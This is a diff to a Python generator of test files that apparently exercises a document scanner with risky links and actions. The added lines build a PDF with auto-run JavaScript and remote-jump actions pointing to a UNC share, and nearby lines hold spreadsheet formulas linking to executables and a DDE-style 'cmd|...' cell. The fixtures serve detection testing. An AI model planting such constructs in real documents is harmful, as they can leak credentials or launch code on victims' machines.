@@ -404,6 +404,9 @@ def _everyday_fields() -> Iterator[_Made]:
         yield f"address-{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target)])
         yield f"address-{number}/paper.pdf", _with_address(target)
         yield from _linked(f"address-{number}", target)
+    actions = b"/AA << /O << /S /JavaScript >> >> /A << /S /GoToR /F (//192.168.1.5/plans/a.pdf) >> "
+    actions += b"/OpenAction << /S /GoToR /F (other.pdf) >>"
+    yield "actions/paper.pdf", doc.pdf_bytes().replace(b"/Catalog", b"/Catalog " + actions)
     yield "address-web/paper.pdf", _with_address("www.example.com/setup.exe")
     formula = '<worksheet><c><f>HYPERLINK("#Sheet2!A1","file:///C:/a.exe")</f></c><c><f>HYPERLINK("https://x.example/"&amp;A1&amp;".exe")</f></c></worksheet>'
     formula += '<c><f>A1&amp;"|\'"&amp;B1</f></c><c><f>HYPERLINK(IF(A1="x","https://example.com","#a"),"a.exe")</f></c><c>cmd|\'x\'!a</c>'
